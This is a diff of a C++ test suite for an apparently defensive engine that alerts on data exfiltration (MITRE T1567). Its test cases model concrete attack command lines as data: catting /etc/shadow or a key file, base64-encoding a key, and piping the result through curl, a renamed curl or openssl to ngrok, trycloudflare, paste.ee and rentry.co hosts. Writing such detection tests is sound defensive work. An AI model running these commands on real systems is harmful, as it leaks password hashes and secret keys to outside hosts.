@@ -139,9 +139,9 @@ TEST_CASE("attack 4: python upload of a registry credential to a code host alert
 TEST_CASE("attack 5: shadow file through a tunnel alerts T1567 (pipeline siblings)")
 {
     Timeline tl;
-    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"});
+    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9301);
     auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "abc123.ngrok-free.app:8443:127.0.0.1", "--data-binary",
-                                    "@-", "https://abc123.ngrok-free.app:8443/"});
+                                    "@-", "https://abc123.ngrok-free.app:8443/"}, {}, 0, 9301);
     tl.open_read(cat, "/etc/shadow");
     tl.exit(cat);
     tl.summary(cat, "/etc/shadow", 1300);
@@ -160,8 +160,8 @@ TEST_CASE("attack 5: shadow file through a tunnel alerts T1567 (pipeline sibling
 TEST_CASE("attack 5 variant: the reader's summary arrives after the upload closed")
 {
     Timeline tl;
-    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"});
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://abc123.ngrok-free.app:8443/"});
+    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9302);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://abc123.ngrok-free.app:8443/"}, {}, 0, 9302);
     tl.transfer(curl, "abc123.ngrok-free.app", 700 + 1300, 1500);
     tl.exit(curl);
     CHECK(tl.alerts.empty());  // nothing read yet as far as the engine knows
@@ -178,10 +178,10 @@ TEST_CASE("attack 6: renamed client and an encoded key alert T1567.003 with rena
     tl.open_read(cp, "/usr/bin/curl");
     tl.open_write(cp, "/tmp/.x", 4242);
     tl.exit(cp);
-    auto b64 = tl.spawn(tl.shell, {"base64", key});
+    auto b64 = tl.spawn(tl.shell, {"base64", key}, {}, 0, 0, 9303);
     auto x = tl.spawn(tl.shell, {"/tmp/.x", "-sk", "--resolve", "rentry.co:8443:127.0.0.1", "--data-binary", "@-",
                                  "https://rentry.co:8443/api/new"},
-                      "/tmp/.x");
+                      "/tmp/.x", 0, 9303);
     tl.open_read(b64, key);
     tl.summary(b64, key, 2600);
     tl.exit(b64);
@@ -313,8 +313,8 @@ TEST_CASE("variant: sh -c 'cat key | openssl s_client' (pipeline under a child s
 {
     Timeline tl;
     auto sh = tl.spawn(tl.shell, {"sh", "-c", "cat k | openssl s_client -quiet -connect x.trycloudflare.com:443"});
-    auto cat = tl.spawn(sh, {"cat", key});
-    auto ossl = tl.spawn(sh, {"openssl", "s_client", "-quiet", "-connect", "x.trycloudflare.com:443"});
+    auto cat = tl.spawn(sh, {"cat", key}, {}, 0, 0, 9306);
+    auto ossl = tl.spawn(sh, {"openssl", "s_client", "-quiet", "-connect", "x.trycloudflare.com:443"}, {}, 0, 9306);
     tl.read(cat, key, 2600);
     tl.exit(cat);
     tl.transfer(ossl, "x.trycloudflare.com", 700 + 2600, 1500);
@@ -417,8 +417,9 @@ TEST_CASE("variant: an earlier command's output to /dev/null does not feed the s
 
 TEST_CASE("variant: an earlier pipeline's output went to its own reader, not to the exec'd uploader")
 {
-    // bash -c 'cat key | grep -c x; curl -d hello ...'
+    // bash -c 'cat key | grep -c x; curl -d hello ...' (bash's own stdout is the harness pipe)
     Timeline tl;
+    tl.shell = exec_into(tl, tl.shell, {"bash", "-c", "cat key | grep -c x; curl -d hello https://paste.rs/"}, harness_pipe);
     auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 800);
     auto grep = tl.spawn(tl.shell, {"grep", "-c", "x"}, {}, 0, 800, harness_pipe);
     tl.read(cat, key, 411);
@@ -589,8 +590,8 @@ TEST_CASE("allowlisted processes get lower scores, not blindness")
 TEST_CASE("alerts once per lineage and destination, again only on escalation")
 {
     Timeline tl;
-    auto curl = tl.spawn(tl.shell, {"curl", "--data-binary", "@-", "https://paste.ee/api"});
-    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"});
+    auto curl = tl.spawn(tl.shell, {"curl", "--data-binary", "@-", "https://paste.ee/api"}, {}, 0, 9304);
+    auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9304);
     tl.read(cat, "/etc/shadow", 1300);
     auto f = tl.connect(curl, "paste.ee");
     tl.flow(curl, f, "paste.ee", 300, 1000, false);   // handshake only: not yet covered
@@ -604,15 +605,15 @@ TEST_CASE("alerts once per lineage and destination, again only on escalation")
         CHECK(tl.alerts[i].risk_score >= tl.alerts[i - 1].risk_score + tl.engine.rules().settings.realert_step);
 }
 
-TEST_CASE("reads older than the window do not count")
+TEST_CASE("no deadline: a read long before the upload counts while the reader lives")
 {
     Timeline tl;
     auto cat = tl.spawn(tl.shell, {"sleep-reader", key}, "/usr/bin/sleep-reader");
     tl.read(cat, key, 2600);
-    tl.step(tl.engine.rules().settings.window_ns / 1'000'000 + 5000);
+    tl.step(tl.engine.rules().settings.window_ns / 1'000'000 * 6 + 5000);
     auto curl = tl.spawn(cat, {"curl", "--data-binary", "@-", "https://paste.ee/api"});
     tl.transfer(curl, "paste.ee", 4000, 900);
-    CHECK(tl.alerts.empty());
+    CHECK_FALSE(tl.alerts.empty());
 }
 
 TEST_CASE("parent to child inheritance: a reader that spawns the uploader")
@@ -640,8 +641,8 @@ TEST_CASE("deterministic: the same events give the same alerts")
 {
     auto run = [] {
         Timeline tl;
-        auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"});
-        auto curl = tl.spawn(tl.shell, {"curl", "--data-binary", "@-", "https://x.ngrok.io/"});
+        auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9305);
+        auto curl = tl.spawn(tl.shell, {"curl", "--data-binary", "@-", "https://x.ngrok.io/"}, {}, 0, 9305);
         tl.read(cat, "/etc/shadow", 1300);
         tl.transfer(curl, "x.ngrok.io", 2600, 900);
         return tl.alerts;
@@ -667,6 +668,7 @@ TEST_CASE("memory stays bounded and evictions are counted")
     for (int i = 0; i < 400; ++i) {
         auto p = tl.spawn(tl.shell, {"worker", std::to_string(i)}, "/usr/bin/worker");
         tl.open_write(p, "/tmp/out" + std::to_string(i), 100000 + i);
+        tl.read(p, key, 100);  // tainted: its file is tracked, and evicting it is a blind spot
         auto f = tl.connect(p, "host" + std::to_string(i) + ".example");
         tl.flow(p, f, "host" + std::to_string(i) + ".example", 100, 100, false);
         tl.step(1100);
